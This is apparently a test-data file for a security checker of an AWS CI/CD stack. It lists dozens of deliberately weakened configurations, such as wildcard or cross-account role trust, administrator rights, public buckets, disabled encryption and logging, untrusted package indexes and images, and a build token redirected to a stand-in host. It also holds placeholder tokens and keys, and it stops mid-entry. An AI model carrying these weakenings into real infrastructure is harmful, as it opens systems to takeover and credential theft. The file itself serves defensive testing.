"""Weakenings of a rendered repository, by family, and what the check has to say of each."""

# ruff: noqa: E501  (texts of the stack, as they stand there)

from weakening import BUNDLE, IAM, PINS, Drop, Edit, New, Weakening, may, of, resource

QA, PLAN, PRODUCTION, PULL_REQUEST = (
    f"cicd/buildspecs/{name}.yml" for name in ("qa", "plan", "production", "pull_request")
)
DRIFT_BUILD = "cicd/buildspecs/drift.yml"
NUTTER, INSTALL, DRIFT = (
    f"cicd/steps/{name}.sh" for name in ("run_nutter", "install_cli", "drift")
)
JOB, PROJECT = "resources/my_data_project.job.yml", "pyproject.toml"
CODEBUILD = "Principal: {Service: codebuild.amazonaws.com}"
OTHER_ACCOUNT = "arn:aws:iam::999999999999:root"
TOKEN = "dapi" + "0123456789abcdef" * 2  # of the form of a Databricks token
AWS_KEY = "AKIA" + "IOSFODNN7ABCDEFG"
IN_ENVIRONMENT = "        EnvironmentVariables:\n"


def row(what, *changes, says, variant="pat-serverless"):
    """A weakening."""
    return Weakening(what, changes, says, variant)


def variable(build: str, text: str) -> Edit:
    """One more environment variable of a build."""
    return Edit(IN_ENVIRONMENT, f"{IN_ENVIRONMENT}          - {{{text}}}\n", of(build))


def setting(name: str, text: str) -> Edit:
    """One more property of a resource."""
    return Edit("    Properties:\n", f"    Properties:\n      {text}\n", of(name))


def command(file: str, before: str, text: str) -> Edit:
    """One more command before another one."""
    return Edit(before, f"- {text}\n      {before}", file=file)


TRUST = [
    row(
        "the QA role is open to virtual machines",
        Edit("codebuild.amazonaws.com", "ec2.amazonaws.com", of("QaBuildRole")),
        says="QaBuildRole",
    ),
    row(
        "any account's builds may take the production role",
        Drop("Condition:", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "any build of the account may take the production role",
        Edit("project/${AWS::StackName}-plan", "project/*", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "the QA build may take the production role",
        Edit("${AWS::StackName}-drift", "${AWS::StackName}-qa", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "the condition holds only if there is something to compare",
        Edit("StringEquals:", "StringEqualsIfExists:", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "the condition compares patterns",
        Edit("StringEquals:", "StringLike:", of("PullRequestBuildRole")),
        says="PullRequestBuildRole",
    ),
    row(
        "everybody may take the production role",
        Edit(CODEBUILD, 'Principal: "*"', of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "everybody may take the QA role, in the longer form",
        Edit(CODEBUILD, 'Principal: {AWS: "*"}', of("QaBuildRole")),
        says="QaBuildRole",
    ),
    row(
        "another account may take the production role",
        Edit(CODEBUILD, f"Principal: {{AWS: '{OTHER_ACCOUNT}'}}", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "everybody in the account may take the production role",
        Edit(CODEBUILD, "Principal: {AWS: !Ref AWS::AccountId}", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row(
        "builds may take the pipeline's role",
        Edit(
            "Service: codepipeline.amazonaws.com",
            "Service: [codepipeline.amazonaws.com, codebuild.amazonaws.com]",
            of("PipelineRole"),
        ),
        says="PipelineRole",
    ),
    row(
        "a foreign identity provider may take the pipeline's role",
        Edit(
            "Service: codepipeline.amazonaws.com",
            "Federated: token.actions.githubusercontent.com",
            of("PipelineRole"),
        ),
        says="PipelineRole",
    ),
    row(
        "rules of any account may take the role that starts the pipeline",
        Drop("Condition:", of("PushRuleRole")),
        says="PushRuleRole",
    ),
    row(
        "rules of another account may take the role that starts builds",
        Edit("!Ref AWS::AccountId", '"999999999999"', of("BuildRuleRole")),
        says="BuildRuleRole",
    ),
]

RIGHTS = [
    row("QA may approve", may("QaBuildRole", "codepipeline:PutApprovalResult"), says="QaBuildRole"),
    row(
        "the plan build may approve",
        may("ProdBuildRole", "codepipeline:PutApprovalResult"),
        says="ProdBuildRole",
    ),
    row(
        "the plan build may roll back",
        Edit(
            "codepipeline:ListActionExecutions,",
            "codepipeline:RollbackStage, codepipeline:ListActionExecutions,",
            of("ReadReleases"),
        ),
        says="codepipeline:RollbackStage",
    ),
    row(
        "QA may start the pipeline",
        may("QaBuildRole", "codepipeline:StartPipelineExecution"),
        says="codepipeline:StartPipelineExecution",
    ),
    row(
        "the role of the push rule may do all with pipelines",
        may("PushRuleRole", "codepipeline:*"),
        says="PushRuleRole",
    ),
    row(
        "QA may start the plan build",
        may("QaBuildRole", "codebuild:StartBuild", "!GetAtt PlanBuild.Arn"),
        says="QaBuildRole",
    ),
    row(
        "a pull request may start any build",
        may("PullRequestBuildRole", "codebuild:StartBuild"),
        says="PullRequestBuildRole",
    ),
    row(
        "the rules' role may start the production build",
        Edit("[!GetAtt PullRequestBuild.Arn,", "[!GetAtt ProdBuild.Arn,", of("BuildRuleRole")),
        says="BuildRuleRole",
    ),
    row(
        "QA may change the builds",
        may("QaBuildRole", "codebuild:UpdateProject"),
        says="codebuild:UpdateProject",
    ),
    row(
        "QA may change the stack",
        may("QaBuildRole", "cloudformation:UpdateStack"),
        says="cloudformation:UpdateStack",
    ),
    row(
        "a pull request may push",
        may("PullRequestBuildRole", "codecommit:GitPush", "!GetAtt Repository.Arn"),
        says="codecommit:GitPush",
    ),
    row(
        "a pull request may merge itself",
        Edit(
            "codecommit:PostCommentForPullRequest",
            "codecommit:MergePullRequestByFastForward",
            of("PullRequestBuildRole"),
        ),
        says="codecommit:MergePullRequestByFastForward",
    ),
    row(
        "QA may do all with the repository",
        may("QaBuildRole", "'codecommit:*'", "!GetAtt Repository.Arn"),
        says="codecommit:*",
    ),
    row(
        "QA writes the plan",
        may(
            "QaBuildRole",
            "s3:PutObject",
            '!Sub "${ArtifactBucket.Arn}/????????????????????/Plan/*"',
        ),
        says="QaBuildRole",
    ),
    row(
        "QA writes every artifact",
        may("QaBuildRole", "s3:PutObject", '!Sub "${ArtifactBucket.Arn}/*"'),
        says="QaBuildRole",
    ),
    row(
        "the plan build writes sources",
        may(
            "ProdBuildRole",
            "s3:PutObject",
            '!Sub "${ArtifactBucket.Arn}/????????????????????/Source/*"',
        ),
        says="ProdBuildRole",
    ),
    row(
        "QA reads every artifact",
        may("QaBuildRole", "s3:GetObject", '!Sub "${ArtifactBucket.Arn}/*"'),
        says="QaBuildRole may read ${ArtifactBucket.Arn}/*; name only",
    ),
    row(
        "a pull request reads artifacts",
        may(
            "PullRequestBuildRole",
            "s3:GetObject",
            '!Sub "${ArtifactBucket.Arn}/????????????????????/Wheel/*"',
        ),
        says="PullRequestBuildRole",
    ),
    row(
        "QA writes what the production builds run",
        may("QaBuildRole", "s3:PutObject", '!Sub "${CicdBucket.Arn}/cicd.zip"'),
        says="QaBuildRole may write ${CicdBucket.Arn}/cicd.zip; name only",
    ),
    row(
        "QA's artifact may lie in another's folder",
        Edit("????????????????????/Wheel/*", "*/Wheel/*", of("QaBuildRole")),
        says="QaBuildRole",
    ),
    row(
        "QA decrypts whatever the key protects",
        Drop(
            "Condition:",
            "Action: [kms:Decrypt, kms:GenerateDataKey]\n            Resource: !GetAtt Key.Arn\n",
        ),
        says="without a condition on kms:ViaService",
    ),
    row("QA administers rights", may("QaBuildRole", "'iam:*'"), says="iam:*"),
    row("production's builds may do anything", may("ProdBuildRole", '"*"'), says="ProdBuildRole"),
    row(
        "production's builds may do nearly anything",
        Edit(
            "              - Sid: Logs\n",
            "              - {Effect: Allow, NotAction: 'iam:*', Resource: '*'}\n"
            "              - Sid: Logs\n",
            of("ProdBuildRole"),
        ),
        says="NotAction",
    ),
    row(
        "QA may read what is not named",
        Edit(
            "                Resource: !Ref QaSecret",
            "                NotResource: !Ref ProdSecret",
            of("QaBuildRole"),
        ),
        says="NotResource",
    ),
    row("QA may hand on roles", may("QaBuildRole", "iam:PassRole"), says="iam:PassRole"),
    row("the pipeline may hand on roles", may("PipelineRole", "iam:PassRole"), says="iam:PassRole"),
    row(
        "the pipeline may do all with CodePipeline",
        may("PipelineRole", "'codepipeline:*'"),
        says="codepipeline:*",
    ),
    row(
        "QA reads production's secret by a wildcard",
        may(
            "QaBuildRole",
            "secretsmanager:GetSecretValue",
            '!Sub "arn:${AWS::Partition}:secretsmanager:*:*:secret:Prod*"',
        ),
        says="QaBuildRole",
    ),
    row(
        "QA reads every secret",
        may("QaBuildRole", "'secretsmanager:Get*'"),
        says="QaBuildRole",
    ),
    row(
        "QA may overwrite production's secret",
        may("QaBuildRole", "secretsmanager:PutSecretValue", "!Ref ProdSecret"),
        says="secretsmanager:PutSecretValue",
    ),
    row(
        "a pull request reads QA's secret",
        may("PullRequestBuildRole", "secretsmanager:GetSecretValue", "!Ref QaSecret"),
        says="PullRequestBuildRole",
    ),
    row(
        "production's builds write other builds' logs",
        Edit("log-stream:drift/*", "log-stream:*", of("ProdBuildRole")),
        says="ProdBuildRole",
    ),
    row("QA may delete logs", may("QaBuildRole", "logs:DeleteLogGroup"), says="DeleteLogGroup"),
    row(
        "QA has an administrator's policy",
        Edit(
            "!If [HasVpc, [!Ref VpcAccess], !Ref AWS::NoValue]",
            "[arn:aws:iam::aws:policy/AdministratorAccess]",
            of("QaBuildRole"),
        ),
        says="a policy from outside this file",
    ),
    row(
        "builds in a VPC may do all with EC2",
        Edit("[ec2:CreateNetworkInterface,", '["ec2:*",', of("VpcAccess")),
        says="ec2:*",
    ),
    row(
        "builds may give anybody's network interface away",
        Drop("Condition:", "Action: ec2:CreateNetworkInterfacePermission"),
        says="ec2:CreateNetworkInterfacePermission",
    ),
    row(
        "an identity token may be for any audience",
        Drop("ForAllValues:StringEquals", of("MintIdentityToken")),
        says="sts:IdentityTokenAudience",
        variant=IAM,
    ),
    row(
        "a pull request may mint production's kind of token",
        Edit(
            "Roles: [!Ref QaBuildRole,",
            "Roles: [!Ref PullRequestBuildRole, !Ref QaBuildRole,",
            of("MintIdentityToken"),
        ),
        says="PullRequestBuildRole",
        variant=IAM,
    ),
    row(
        "a role that nobody declared administers the account",
        resource(
            """
  Helper:
    Type: AWS::IAM::Role
    Properties:
      AssumeRolePolicyDocument:
        Version: "2012-10-17"
        Statement: [{Effect: Allow, Principal: {Service: lambda.amazonaws.com}, Action: sts:AssumeRole}]
      Policies:
        - PolicyName: helper
          PolicyDocument: {Version: "2012-10-17", Statement: [{Effect: Allow, Action: "*", Resource: "*"}]}
"""
        ),
        says="Helper",
    ),
    row(
        "a user with a password for ever",
        resource(
            """
  Helper:
    Type: AWS::IAM::User
    Properties:
      Policies:
        - PolicyName: helper
          PolicyDocument: {Version: "2012-10-17", Statement: [{Effect: Allow, Action: "s3:*", Resource: "*"}]}
"""
        ),
        says="Helper",
    ),
    row(
        "a policy beside the role gives a pull request the secrets",
        resource(
            """
  More:
    Type: AWS::IAM::Policy
    Properties:
      PolicyName: more
      Roles: [!Ref PullRequestBuildRole]
      PolicyDocument:
        Version: "2012-10-17"
        Statement: [{Effect: Allow, Action: "secretsmanager:*", Resource: "*"}]
"""
        ),
        says="PullRequestBuildRole",
    ),
    row(
        "a policy of a role gives a pull request the secrets",
        resource(
            """
  More:
    Type: AWS::IAM::RolePolicy
    Properties:
      PolicyName: more
      RoleName: !Ref PullRequestBuildRole
      PolicyDocument:
        Version: "2012-10-17"
        Statement: [{Effect: Allow, Action: "secretsmanager:*", Resource: "*"}]
"""
        ),
        says="PullRequestBuildRole may read",
    ),
    row(
        "a new managed policy lets whoever has it do anything",
        resource(
            """
  More:
    Type: AWS::IAM::ManagedPolicy
    Properties:
      PolicyDocument:
        Version: "2012-10-17"
        Statement: [{Effect: Allow, Action: "*", Resource: "*"}]
"""
        ),
        says="More",
    ),
]

PEOPLE = [
    row(
        "an operator starts a build with other commands",
        Drop("Condition:", of("OperatorPolicy")),
        says="OperatorPolicy allows codebuild:StartBuild",
    ),
    row(
        "a developer approves",
        Edit(
            "[codecommit:CreatePullRequest,",
            "[codepipeline:PutApprovalResult, codecommit:CreatePullRequest,",
            of("DeveloperPolicy"),
        ),
        says="DeveloperPolicy pushes and approves",
    ),
    row(
        "a developer pushes to the branch",
        Drop("Condition:", of("DeveloperPolicy")),
        says="DeveloperPolicy allows codecommit:GitPush",
    ),
    row(
        "a reviewer answers every approval",
        Edit("/Review/Approve", "/*", of("ReviewerPolicy")),
        says="ReviewerPolicy",
    ),
    row(
        "an operator does all with builds",
        Edit("Action: [", "Action: ['codebuild:*', ", of("OperatorPolicy")),
        says="OperatorPolicy allows codebuild:*",
    ),
]

RESOURCE_POLICIES = [
    row(
        "the artifacts without TLS: Deny turned Allow",
        Edit("Effect: Deny", "Effect: Allow", of("ArtifactBucketPolicy")),
        says="ArtifactBucketPolicy",
    ),
    row(
        "the access logs without TLS: Deny turned Allow",
        Edit("Effect: Deny", "Effect: Allow", of("LogBucketPolicy")),
        says="LogBucketPolicy",
    ),
    row(
        "the condition for TLS the other way round",
        Edit('aws:SecureTransport: "false"', 'aws:SecureTransport: "true"'),
        says="ArtifactBucket",
    ),
    row(
        "TLS is needed only for what is deleted",
        Edit("Action: s3:*", "Action: s3:DeleteObject", of("ArtifactBucketPolicy")),
        says="ArtifactBucket",
    ),
    row(
        "the bucket's policy is gone",
        Drop("ArtifactBucketPolicy:"),
        says="ArtifactBucket",
    ),
    row(
        "everybody reads the artifacts",
        Edit(
            "          - Sid: TlsOnly\n",
            "          - Sid: Everybody\n"
            "            Effect: Allow\n"
            '            Principal: "*"\n'
            "            Action: s3:GetObject\n"
            '            Resource: !Sub "${ArtifactBucket.Arn}/*"\n'
            "          - Sid: TlsOnly\n",
            of("ArtifactBucketPolicy"),
        ),
        says="ArtifactBucketPolicy",
    ),
    row(
        "another account writes artifacts",
        Edit(
            "          - Sid: TlsOnly\n",
            "          - Sid: Partner\n"
            "            Effect: Allow\n"
            f"            Principal: {{AWS: '{OTHER_ACCOUNT}'}}\n"
            "            Action: s3:PutObject\n"
            '            Resource: !Sub "${ArtifactBucket.Arn}/*"\n'
            "          - Sid: TlsOnly\n",
            of("ArtifactBucketPolicy"),
        ),
        says="ArtifactBucketPolicy",
    ),
    row(
        "any bucket of any account may send its access log",
        Drop("Condition:", "Sid: AccessLogs"),
        says="LogBucketPolicy",
    ),
    row(
        "everybody writes access logs",
        Edit("Principal: {Service: logging.s3.amazonaws.com}", 'Principal: "*"'),
        says="LogBucketPolicy",
    ),
    row(
        "everybody may mail the team",
        Edit("Principal: {Service: events.amazonaws.com}", 'Principal: "*"', of("TopicPolicy")),
        says="TopicPolicy",
    ),
    row(
        "another account may mail the team",
        Edit(
            "Principal: {Service: events.amazonaws.com}",
            f"Principal: {{AWS: '{OTHER_ACCOUNT}'}}",
            of("TopicPolicy"),
        ),
        says="TopicPolicy",
    ),
    row(
        "the rules may do all with the topic",
        Edit("Action: sns:Publish", 'Action: "sns:*"', of("TopicPolicy")),
        says="TopicPolicy",
    ),
    row(
        "everybody uses the key",
        Edit(
            'Principal: {AWS: !Sub "arn:${AWS::Partition}:iam::${AWS::AccountId}:root"}',
            'Principal: "*"',
        ),
        says="Key",
    ),
    row(
        "another account administers the key",
        Edit(
            'Principal: {AWS: !Sub "arn:${AWS::Partition}:iam::${AWS::AccountId}:root"}',
            f"Principal: {{AWS: '{OTHER_ACCOUNT}'}}",
        ),
        says="Key",
    ),
    row(
        "CloudWatch may use the key for any log group",
        Drop("Condition:", "Sid: LogsOfTheBuilds"),
        says="Key",
    ),
    row(
        "EventBridge may do all with the key",
        Edit(
            "Action: [kms:Decrypt, kms:GenerateDataKey*]",
            'Action: "kms:*"',
            "Sid: EventsToTheTopic",
        ),
        says="Key",
    ),
    row(
        "a second way to production's secret",
        resource(
            """
  Opened:
    Type: AWS::SecretsManager::ResourcePolicy
    Properties:
      SecretId: !Ref ProdSecret
      ResourcePolicy:
        Version: "2012-10-17"
        Statement: [{Effect: Allow, Principal: "*", Action: "secretsmanager:GetSecretValue", Resource: "*"}]
"""
        ),
        says="outside the roles' own policies",
    ),
]

STORES = [
    row(
        "artifacts not encrypted",
        Drop("BucketEncryption:", of("ArtifactBucket")),
        says="ArtifactBucket",
    ),
    row("logs not encrypted", Drop("BucketEncryption:", of("LogBucket")), says="LogBucket"),
    row(
        "artifacts with S3's key",
        Edit(
            "{SSEAlgorithm: aws:kms, KMSMasterKeyID: !GetAtt Key.Arn}",
            "{SSEAlgorithm: AES256}",
            of("ArtifactBucket"),
        ),
        says="ArtifactBucket",
    ),
    row(
        "no versions of artifacts",
        Edit("Status: Enabled}", "Status: Suspended}", of("ArtifactBucket")),
        says="ArtifactBucket",
    ),
    row("no versions of logs", Drop("VersioningConfiguration:", of("LogBucket")), says="LogBucket"),
    row(
        "public access lists",
        Edit("BlockPublicAcls: true", "BlockPublicAcls: false", of("ArtifactBucket")),
        says="ArtifactBucket",
    ),
    row(
        "public policy",
        Edit("RestrictPublicBuckets: true", "RestrictPublicBuckets: false", of("LogBucket")),
        says="LogBucket",
    ),
    row(
        "nothing blocks public access",
        Drop("PublicAccessBlockConfiguration:", of("ArtifactBucket")),
        says="ArtifactBucket",
    ),
    row(
        "writers own their objects",
        Edit("BucketOwnerEnforced", "ObjectWriter", of("ArtifactBucket")),
        says="ArtifactBucket",
    ),
    row(
        "everybody reads, by an access list",
        setting("ArtifactBucket", "AccessControl: PublicRead"),
        says="ArtifactBucket",
    ),
    row(
        "no access log", Drop("LoggingConfiguration:", of("ArtifactBucket")), says="ArtifactBucket"
    ),
    row(
        "the key is not rotated",
        Edit("EnableKeyRotation: true", "EnableKeyRotation: false"),
        says="Key",
    ),
    row("the key's rotation is not said", Drop("EnableKeyRotation"), says="Key"),
    row("mail is not encrypted", Drop("KmsMasterKeyId", of("Topic")), says="Topic"),
    row("mail with AWS's key", Edit("!GetAtt Key.Arn", "alias/aws/sns", of("Topic")), says="Topic"),
    row(
        "production's secret with AWS's key", Drop("KmsKeyId", of("ProdSecret")), says="ProdSecret"
    ),
    row("QA's secret with AWS's key", Drop("KmsKeyId", of("QaSecret")), says="QaSecret"),
    row("logs with AWS's key", Drop("KmsKeyId", of("BuildLogs")), says="BuildLogs"),
    row("logs for ever", Drop("RetentionInDays", of("BuildLogs")), says="BuildLogs"),
    row("logs for a day", Edit("RetentionInDays: 90", "RetentionInDays: 1"), says="BuildLogs"),
    row("a build's output with AWS's key", Drop("EncryptionKey", of("QaBuild")), says="QaBuild"),
    row(
        "the pipeline's artifacts with AWS's key",
        Edit(", EncryptionKey: {Type: KMS, Id: !GetAtt Key.Arn}}", "}", of("Pipeline")),
        says="Pipeline",
    ),
    row("the plan build writes no log", Drop("LogsConfig", of("PlanBuild")), says="PlanBuild"),
    row(
        "the production build's log is off",
        Edit("Status: ENABLED", "Status: DISABLED", of("ProdBuild")),
        says="ProdBuild",
    ),
    row(
        "test reports leave the account, not encrypted",
        Edit(
            "ExportConfig: {ExportConfigType: NO_EXPORT}",
            "ExportConfig: {ExportConfigType: S3, S3Destination: {Bucket: elsewhere, EncryptionDisabled: true}}",
            of("QaUnitReports"),
        ),
        says="QaUnitReports",
    ),
    row(
        "the repository goes with the stack",
        Edit("DeletionPolicy: RetainExceptOnCreate", "DeletionPolicy: Delete", of("Repository")),
        says="Repository",
    ),
    row(
        "a bucket beside the stack's, as S3 makes it",
        resource("  Extra:\n    Type: AWS::S3::Bucket"),
        says="Extra",
    ),
]

PARAMETERS = [
    row("any branch name", Drop("AllowedPattern", of("BranchName")), says="BranchName"),
    row("any VPC", Drop("AllowedPattern", of("VpcId")), says="VpcId"),
    row(
        "production without TLS",
        Edit(
            "'^https://[a-z0-9][a-z0-9.-]*[a-z0-9]$'",
            "'^https?://[a-z0-9][a-z0-9.-]*[a-z0-9]$'",
            of("ProdWorkspaceHost"),
        ),
        says="ProdWorkspaceHost",
    ),
    row(
        "any repository name",
        Edit("'^(?!.*\\.git$)[A-Za-z0-9._-]{1,100}$'", "'.*'", of("RepoName")),
        says="RepoName",
    ),
    row(
        "a package index with a password, without TLS",
        Edit("'^$|^https://[^\\s@]+$'", "'^$|^http.*'", of("PackageIndexUrl")),
        says="PackageIndexUrl",
    ),
    row(
        "any client ID",
        Edit("'^(not-set|[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12})$'", "'.+'", of("ProdClientId")),
        says="ProdClientId",
        variant=IAM,
    ),
    row(
        "a token as a parameter that everybody reads",
        Edit(
            "\nMappings:\n",
            "  GitToken:\n    Type: String\n    AllowedPattern: '^[a-z]*$'\n    Default: ''\n\nMappings:\n",
        ),
        says="GitToken",
    ),
    row(
        "a token as a parameter's default",
        Edit(
            "\nMappings:\n",
            f"  Access:\n    Type: String\n    AllowedPattern: '^[a-z0-9]*$'\n    Default: {TOKEN}\n\nMappings:\n",
        ),
        says="token",
    ),
]

STARTS = [
    row(
        "a deleted branch",
        Edit(
            "[referenceCreated, referenceUpdated]",
            "[referenceCreated, referenceUpdated, referenceDeleted]",
        ),
        says="PushRule: event",
    ),
    row(
        "mail goes to a server",
        Edit("Protocol: email", "Protocol: https", of("EmailSubscription")),
        says="EmailSubscription",
    ),
    row(
        "QA's token goes to another host",
        Edit("Value: !Ref QaWorkspaceHost", "Value: https://dbc.example.com", of("QaBuild")),
        says="QaBuild: its host",
    ),
    row(
        "a push to any branch",
        Edit(", referenceName: [!Ref BranchName]", "", of("PushRule")),
        says="PushRule",
    ),
    row(
        "a push to any branch, by its prefix",
        Edit("[!Ref BranchName]", '[{prefix: ""}]', of("PushRule")),
        says="PushRule",
    ),
    row(
        "a push to another branch",
        Edit("[!Ref BranchName]", "[develop]", of("PushRule")),
        says="PushRule",
    ),
    row("a push to any repository", Drop("resources:", of("PushRule")), says="PushRule"),
    row(
        "a tag of the branch's name",
        Edit(", referenceType: [branch]", "", of("PushRule")),
        says="PushRule",
    ),
    row(
        "a pull request of any repository",
        Drop("resources:", of("PullRequestRule")),
        says="PullRequestRule",
    ),
    row(
        "a pull request of another repository",
        Edit(
            "[!GetAtt Repository.Arn]",
            "['arn:aws:codecommit:us-east-1:999999999999:other']",
            of("PullRequestRule"),
        ),
        says="PullRequestRule",
    ),
    row(
        "a pull request is built with QA's credential",
        Edit(
            "Arn: !GetAtt PullRequestBuild.Arn", "Arn: !GetAtt QaBuild.Arn", of("PullRequestRule")
        ),
        says="QaBuild",
    ),
    row(
        "the daily look deploys",
        Edit("Arn: !GetAtt DriftBuild.Arn", "Arn: !GetAtt ProdBuild.Arn", of("DriftRule")),
        says="ProdBuild",
    ),
    row(
        "a pull request brings its own commands for any build",
        Edit(
            '{"sourceVersion": <commit>,',
            '{"sourceVersion": <commit>, "buildspecOverride": "x.yml",',
            of("PullRequestRule"),
        ),
        says="PullRequestRule",
    ),
    row(
        "a pull request starts the pipeline too",
        Edit(
            "detail-type: [CodeCommit Repository State Change]",
            "detail-type: [CodeCommit Repository State Change, CodeCommit Pull Request State Change]",
            of("PushRule"),
        ),
        says="PushRule",
    ),
    row(
        "the pipeline follows another branch",
        Edit("BranchName: !Ref BranchName", "BranchName: develop", of("Pipeline")),
        says="BranchName",
    ),
    row(
        "the pipeline looks by itself, at whatever there is",
        Edit("PollForSourceChanges: false", "PollForSourceChanges: true"),
        says="PollForSourceChanges",
    ),
    row(
        "nobody hears of a failed pipeline",
        Edit(
            "    Properties:\n",
            "    Properties:\n      State: DISABLED\n",
            of("PipelineFailedRule"),
        ),
        says="PipelineFailedRule",
    ),
    row(
        "nobody hears of a failed comparison",
        Edit("[FAILED, FAULT, TIMED_OUT]", "[STOPPED]", of("DriftFailedRule")),
        says="DriftFailedRule",
    ),
]

PIPELINE = [
    row("no approval", Drop("- Name: Approve", of("Pipeline")), says="prod"),
    row(
        "approved before the plan",
        Edit("RunOrder: 2", "RunOrder: 1", "- Name: Approve"),
        says="Approve",
    ),
    row(
        "the plan comes after its approval",
        Edit("RunOrder: 1", "RunOrder: 3", "- Name: Plan"),
        says="Approve",
    ),
    row(
        "a stage deploys before the review",
        Edit(
            "        - Name: Review\n",
            "        - Name: Hotfix\n          Actions:\n            - Name: Deploy\n"
            '              ActionTypeId: {Category: Build, Owner: AWS, Provider: CodeBuild, Version: "1"}\n'
            "              Configuration: {ProjectName: !Ref ProdBuild}\n"
            "              InputArtifacts: [{Name: Source}]\n        - Name: Review\n",
            of("Pipeline"),
        ),
        says="ProdBuild",
    ),
    row(
        "production's commands come from QA's artifact",
        Edit("PrimarySource: Cicd", "PrimarySource: Wheel", "- Name: Deploy\n"),
        says="PrimarySource",
    ),
    row(
        "the plan's commands come from the commit",
        Edit("PrimarySource: Cicd", "PrimarySource: Source", "- Name: Plan\n"),
        says="PrimarySource",
    ),
    row(
        "production's commands come from another bucket",
        Edit("S3Bucket: !Ref CicdBucket", "S3Bucket: another-bucket"),
        says="PrimarySource is Cicd; name Cicd, from the stack's bucket",
    ),
    row(
        "the administrator's cicd/ is the repository's",
        Edit(
            "Category: Source, Owner: AWS, Provider: S3",
            "Category: Source, Owner: AWS, Provider: ECR",
        ),
        says="Cicd",
    ),
    row(
        "production deploys any plan",
        Edit(
            '{"name": "PLAN_SHA256", "value": "#{PlanVariables.PLAN_SHA256}"},\n',
            '{"name": "PLAN", "value": "x"},\n',
        ),
        says="PLAN_SHA256",
    ),
    row(
        "production deploys any wheel",
        Edit("#{PlanVariables.WHEEL_SHA256}", ""),
        says="WHEEL_SHA256",
    ),
    row(
        "production does not get the plan",
        Edit("{Name: Wheel}, {Name: Plan}]", "{Name: Wheel}]", "- Name: Deploy\n"),
        says="Plan",
    ),
    row(
        "executions run beside each other",
        Edit("ExecutionMode: SUPERSEDED", "ExecutionMode: PARALLEL"),
        says="ExecutionMode",
    ),
    row(
        "the sources come from elsewhere",
        Edit("Provider: CodeCommit", "Provider: CodeStarSourceConnection", of("Pipeline")),
        says="CodeCommit",
    ),
    row(
        "the reviewer is asked without the plan",
        Drop("ExternalEntityLink", of("Pipeline")),
        says="Approve",
    ),
    row("the reviewer gets no mail", Drop("NotificationArn", of("Pipeline")), says="Approve"),
    row(
        "the approval says nothing of lost data",
        Edit("#{PlanVariables.DATA_LOSS} What", "What", "- Name: Approve"),
        says="DATA_LOSS",
    ),
]

BUILDS = [
    row(
        "a build with root's rights on its host",
        Edit(
            "        Type: LINUX_CONTAINER\n",
            "        Type: LINUX_CONTAINER\n        PrivilegedMode: true\n",
            of("QaBuild"),
        ),
        says="QaBuild",
    ),
    row(
        "a stranger's image",
        Edit(
            "aws/codebuild/amazonlinux-x86_64-standard:5.0",
            "docker.io/someone/build:5.0",
            of("ProdBuild"),
        ),
        says="ProdBuild",
    ),
    row(
        "another account's image",
        Edit(
            "aws/codebuild/amazonlinux-x86_64-standard:5.0",
            "999999999999.dkr.ecr.us-east-1.amazonaws.com/build:5",
            of("PlanBuild"),
        ),
        says="PlanBuild",
    ),
    row(
        "whatever image is the newest",
        Edit("standard:5.0", "standard:latest", of("QaBuild")),
        says="QaBuild",
    ),
    row("no time-out", Drop("TimeoutInMinutes", of("ProdBuild")), says="ProdBuild"),
    row(
        "a time-out of a day and a half",
        Edit("TimeoutInMinutes: 120", "TimeoutInMinutes: 2160", of("QaBuild")),
        says="QaBuild",
    ),
    row(
        "a pull request has QA's role",
        Edit(
            "ServiceRole: !GetAtt PullRequestBuildRole.Arn", "ServiceRole: !GetAtt QaBuildRole.Arn"
        ),
        says="PullRequestBuild",
    ),
    row(
        "a pull request has production's role",
        Edit(
            "ServiceRole: !GetAtt PullRequestBuildRole.Arn",
            "ServiceRole: !GetAtt ProdBuildRole.Arn",
        ),
        says="PullRequestBuild",
    ),
    row(
        "a second package index for pip",
        variable(
            "PlanBuild", "Name: PIP_EXTRA_INDEX_URL, Value: 'https://packages.example.com/simple'"
        ),
        says="PIP_EXTRA_INDEX_URL",
    ),
    row(
        "a second package index for uv",
        variable("QaBuild", "Name: UV_INDEX, Value: 'https://packages.example.com/simple'"),
        says="UV_INDEX",
    ),
    row(
        "the first package index a stranger's",
        variable("QaBuild", "Name: UV_DEFAULT_INDEX, Value: 'https://packages.example.com/simple'"),
        says="UV_DEFAULT_INDEX",
    ),
    row(
        "code before each Python",
        variable("ProdBuild", "Name: PYTHONSTARTUP, Value: x.py"),
        says="PYTHONSTARTUP",
    ),
    row(
        "code before each shell",
        variable("ProdBuild", "Name: BASH_ENV, Value: x.sh"),
        says="BASH_ENV",
    ),
    row(
        "a token in the open, by its name",
        variable("QaBuild", "Name: GITHUB_TOKEN, Value: abc"),
        says="GITHUB_TOKEN",
    ),
    row(
        "a token in the open, by its form",
        variable("QaBuild", f"Name: ACCESS, Value: {TOKEN}"),
        says="token",
    ),
    row(
        "a password in an address",
        variable("QaBuild", "Name: SERVICE, Value: 'https://team:Winter2026@example.com/api'"),
        says="password",
    ),
    row(
        "a secret from the parameter store",
        variable("QaBuild", "Name: API_TOKEN, Type: PARAMETER_STORE, Value: /token"),
        says="API_TOKEN",
    ),
    row(
        "a pull request gets QA's token",
        variable(
            "PullRequestBuild",
            'Name: DATABRICKS_TOKEN, Type: SECRETS_MANAGER, Value: !Sub "${QaSecret}:token"',
        ),
        says="PullRequestBuild",
    ),
    row(
        "everybody reads the build's log",
        setting("PullRequestBuild", "Visibility: PUBLIC_READ"),
        says="PullRequestBuild",
    ),
    row(
        "production's build takes files from a stranger",
        setting(
            "ProdBuild",
            "SecondarySources: [{Type: GITHUB, Location: 'https://github.com/someone/x.git', SourceIdentifier: x}]",
        ),
        says="ProdBuild",
    ),
    row(
        "builds share a cache",
        setting("ProdBuild", "Cache: {Type: S3, Location: !Sub '${ArtifactBucket}/cache'}"),
        says="ProdBuild",
    ),
    row(
        "a pull request's build hands on files",
        Edit(
            "Artifacts: {Type: NO_ARTIFACTS}",
            "Artifacts: {Type: S3, Location: !Ref ArtifactBucket, EncryptionDisabled: true}",
            of("PullRequestBuild"),
        ),
